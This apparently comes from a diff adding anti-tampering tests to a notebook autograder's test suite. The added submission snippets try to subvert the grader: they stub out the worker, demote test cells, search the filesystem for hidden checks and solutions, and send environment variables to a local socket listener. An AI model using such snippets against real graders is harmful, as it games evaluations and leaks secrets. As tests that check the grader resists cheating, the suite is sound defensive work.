@@ -157,6 +157,50 @@ AUTOGRAD_BACKWARD = """def batchnorm_backward(dout, cache):
     return x.grad.numpy(), g.grad.numpy(), b.grad.numpy()"""
 
 
+REBIND_WORKER = """
+import autograder.worker as worker
+worker.run = lambda *args, **kwargs: None
+worker.encode_outputs = lambda raw: {}
+"""
+
+#: Looks everywhere it can for the hidden checks, the references and the solutions, and prints them.
+READ_COURSE_FILES = """
+import os
+for top in ("/", "/work", "/tmp", "/root"):
+    for folder, _, files in os.walk(top):
+        for name in files:
+            path = os.path.join(folder, name)
+            if name in ("bn_math.py", "bn_math.ipynb", ".course-secret") and "site-packages" not in path:
+                try:
+                    print(path, open(path).read()[:20000])
+                except OSError as error:
+                    print(path, error)
+"""
+
+#: Sends what it can see to a listener on the grader's machine; prints the environment.
+ENVIRONMENT_AND_NETWORK = """
+import os, socket
+print(sorted(os.environ.items()))
+try:
+    with socket.create_connection(("127.0.0.1", PORT), timeout=3) as connection:
+        connection.sendall(repr(sorted(os.environ.items())).encode())
+except OSError as error:
+    print("no network:", error)
+"""
+
+
+def _to_kind(kind: str):
+    def edit(nb: dict) -> None:
+        for cell in nb["cells"]:
+            meta = cell.get("metadata", {}).get("nbgrader", {})
+            if meta.get("grade") and not meta.get("solution"):
+                cell["cell_type"] = kind
+                cell.pop("outputs", None)
+                cell.pop("execution_count", None)
+
+    return edit
+
+
 def _edit_tests(nb: dict) -> None:
     for cell in nb["cells"]:
         meta = cell.get("metadata", {}).get("nbgrader", {})
@@ -199,11 +243,80 @@ CASES = {
     "library_forward": (notebook({"batchnorm_forward": LIBRARY_FORWARD}), 0.0),
     # The backward points (4) and the spatial backward's (3), which delegates to it, are lost.
     "autograd_backward": (notebook({"batchnorm_backward": AUTOGRAD_BACKWARD}), 5.0),
+    "markdown_test_cells": (_nb(edit=_to_kind("markdown")), 0.0),
+    "raw_test_cells": (_nb(edit=_to_kind("raw")), 0.0),
+    "rebind_worker": (_nb(before_first_test=[REBIND_WORKER]), 0.0),
+    "read_course_files": (_nb(before_first_test=[READ_COURSE_FILES]), 0.0),
+    "environment_and_network": (_nb(before_first_test=[ENVIRONMENT_AND_NETWORK]), 0.0),
+    "symlinked_data_file": (_nb(before_first_test=["print(open('data.txt').read()[:20000])"]), 0.0),
 }
+
+#: A value in the grader's environment that no submission may see.
+CANARY = "canary-7f3d9e1a"
 
 
 def _env() -> dict[str, str]:
-    return {k: v for k, v in os.environ.items() if k != "PYTHONPATH"}
+    return {**{k: v for k, v in os.environ.items() if k != "PYTHONPATH"}, "BN_TEST_CANARY": CANARY,
+            "BN_COURSE_SECRET": CANARY + "-secret"}
+
+
+def _cases_with_port(port: int) -> dict[str, dict]:
+    import json
+
+    return {name: json.loads(json.dumps(nb).replace("PORT", str(port))) for name, (nb, _) in CASES.items()}
+
+
+def _listen():
+    """A TCP listener on the grader's machine that records whatever reaches it."""
+    import socket
+    import threading
+
+    server = socket.socket()
+    server.bind(("127.0.0.1", 0))
+    server.listen(8)
+    server.settimeout(0.5)
+    received: list[bytes] = []
+    stop = threading.Event()
+
+    def accept() -> None:
+        while not stop.is_set():
+            try:
+                connection, _ = server.accept()
+            except OSError:
+                continue
+            with connection:
+                connection.settimeout(2)
+                try:
+                    received.append(connection.recv(1 << 16) or b"(connected)")
+                except OSError:
+                    received.append(b"(connected)")
+
+    thread = threading.Thread(target=accept, daemon=True)
+    thread.start()
+    return server.getsockname()[1], received, (stop, thread, server)
+
+
+def _stop(handle) -> None:
+    stop, thread, server = handle
+    stop.set()
+    thread.join(5)
+    server.close()
+
+
+def _secrets(course: Path) -> list[str]:
+    """Lines a submission must never carry out: hidden checks, references, solutions, secrets."""
+    lines = [CANARY]
+    for path in [course / "autograder" / "checks" / "bn_math.py", course / "autograder" / "references" / "bn_math.py"]:
+        lines += [line.strip() for line in path.read_text().splitlines() if len(line.strip()) > 40]
+    from tests.fake_class import solutions
+
+    import nbformat
+
+    released = "\n".join(cell.source for cell in
+                         nbformat.read(course / "exercises" / "bn_math" / "bn_math.ipynb", as_version=4).cells)
+    lines += [line.strip() for source in solutions().values() for line in source.splitlines()
+              if len(line.strip()) > 30 and line.strip() not in released]
+    return lines
 
 
 def _totals_from_nbgrader_export(course: Path) -> dict[str, tuple[float, float]]:
@@ -217,12 +330,15 @@ def _totals_from_nbgrader_export(course: Path) -> dict[str, tuple[float, float]]
 @pytest.fixture(scope="session")
 def plain_nbgrader(tmp_path_factory):
     result = shared_result(tmp_path_factory, "tamper-plain", _plain_nbgrader)
-    return result["totals"], Path(result["course"]), result["feedback_stderr"]
+    return result["totals"], Path(result["course"]), result["feedback_stderr"], result["received"]
 
 
 def _plain_nbgrader(folder: Path) -> dict:
     course = copy_course(folder / "course")
-    as_nbgrader({name: nb for name, (nb, _) in CASES.items()}, course)
+    port, received, handle = _listen()
+    as_nbgrader(_cases_with_port(port), course)
+    data = course / "submitted" / "symlinked_data_file" / "bn_math" / "data.txt"
+    data.symlink_to(course / "solutions" / "bn_math" / "bn_math.ipynb")
     for command in (["generate_assignment", "bn_math", "--force"], ["autograde", "bn_math", "--force"]):
         done = subprocess.run([sys.executable, "-m", "nbgrader", *command, "--log-level=WARN"], cwd=course,
                               env=_env(), capture_output=True, text=True, timeout=900)
@@ -234,7 +350,9 @@ def _plain_nbgrader(folder: Path) -> dict:
     feedback = subprocess.run([sys.executable, "-m", "nbgrader", "generate_feedback", "bn_math", "--force",
                                "--log-level=WARN"], cwd=course, env=_env(), capture_output=True, text=True,
                               timeout=900)
-    return {"totals": _totals_from_nbgrader_export(course), "course": str(course), "feedback_stderr": feedback.stderr}
+    _stop(handle)
+    return {"totals": _totals_from_nbgrader_export(course), "course": str(course), "feedback_stderr": feedback.stderr,
+            "received": [r.decode("utf-8", "replace") for r in received]}
 
 
 @pytest.fixture(scope="session")
@@ -244,11 +362,14 @@ def project_command(tmp_path_factory):
 
 def _project_command(folder: Path) -> dict:
     course = copy_course(folder / "course")
-    subs = as_folder({name: nb for name, (nb, _) in CASES.items()}, folder / "subs")
-    done = subprocess.run([sys.executable, "-m", "autograder", "grade", "bn_math", str(subs), "--quiet",
-                           "--no-feedback"], cwd=course, env=_env(), capture_output=True, text=True, timeout=900)
+    port, received, handle = _listen()
+    subs = as_folder(_cases_with_port(port), folder / "subs")
+    done = subprocess.run([sys.executable, "-m", "autograder", "grade", "bn_math", str(subs), "--quiet"],
+                          cwd=course, env=_env(), capture_output=True, text=True, timeout=900)
+    _stop(handle)
     assert done.returncode == 0, done.stderr[-3000:]
-    return _totals_from_nbgrader_export(course)
+    return {"totals": _totals_from_nbgrader_export(course), "course": str(course),
+            "received": [r.decode("utf-8", "replace") for r in received]}
 
 
 @pytest.mark.xdist_group("grading-tamper-plain")
@@ -262,7 +383,7 @@ def test_plain_nbgrader_autograde(plain_nbgrader, case):
 def test_plain_nbgrader_feedback_hides_hidden_tests_and_loads_nothing(plain_nbgrader):
     from tests.fake_class import hidden_test_lines
 
-    _, course, stderr = plain_nbgrader
+    _, course, stderr, _ = plain_nbgrader
     files = sorted((course / "feedback").glob("*/bn_math/*.html"))
     assert len(files) >= len(CASES) - 1, stderr[-2000:]
     hidden = hidden_test_lines()
@@ -270,15 +391,33 @@ def test_plain_nbgrader_feedback_hides_hidden_tests_and_loads_nothing(plain_nbgr
         text = file.read_text(encoding="utf-8")
         assert not [line for line in hidden if line in text], file
         assert "<script src=\"http" not in text and "<script src='http" not in text, file
-    assert "Hidden tests: 5 of 5 checks passed." in (course / "feedback" / "honest" / "bn_math" /
-                                                      "bn_math.html").read_text(encoding="utf-8")
+    honest = (course / "feedback" / "honest" / "bn_math" / "bn_math.html").read_text(encoding="utf-8")
+    assert "Hidden tests: 5 of 5 checks passed." in honest
+    # The notebook's formulas are drawn as MathML, with no script: none is left as TeX.
+    assert "<math" in honest and "$$" not in honest
 
 
 @pytest.mark.xdist_group("grading-tamper-project")
 @pytest.mark.parametrize("case", list(CASES))
 def test_project_command(project_command, case):
     expected = CASES[case][1]
-    assert project_command[case] == [pytest.approx(expected), 12.0]
+    assert project_command["totals"][case] == [pytest.approx(expected), 12.0]
+
+
+@pytest.mark.parametrize("grader", ["plain", "project"])
+def test_nothing_leaves_through_feedback_or_network(plain_nbgrader, project_command, grader):
+    """No feedback page holds a line of the hidden checks, the references, the solutions or the grader's
+    environment, and nothing reached a listener on the grader's machine."""
+    course = plain_nbgrader[1] if grader == "plain" else Path(project_command["course"])
+    received = plain_nbgrader[3] if grader == "plain" else project_command["received"]
+    assert received == []
+    secrets = _secrets(course)
+    pages = sorted((course / "feedback").glob("*/bn_math/*.html"))
+    assert {page.parent.parent.name for page in pages} >= set(CASES) - {"reweigh_points"}
+    for page in pages:
+        text = page.read_text(encoding="utf-8")
+        leaked = [line for line in secrets if line in text]
+        assert not leaked, f"{page.parent.parent.name}: {leaked[:3]}"
 
 
 def test_the_catalogue_of_tricks_is_complete():
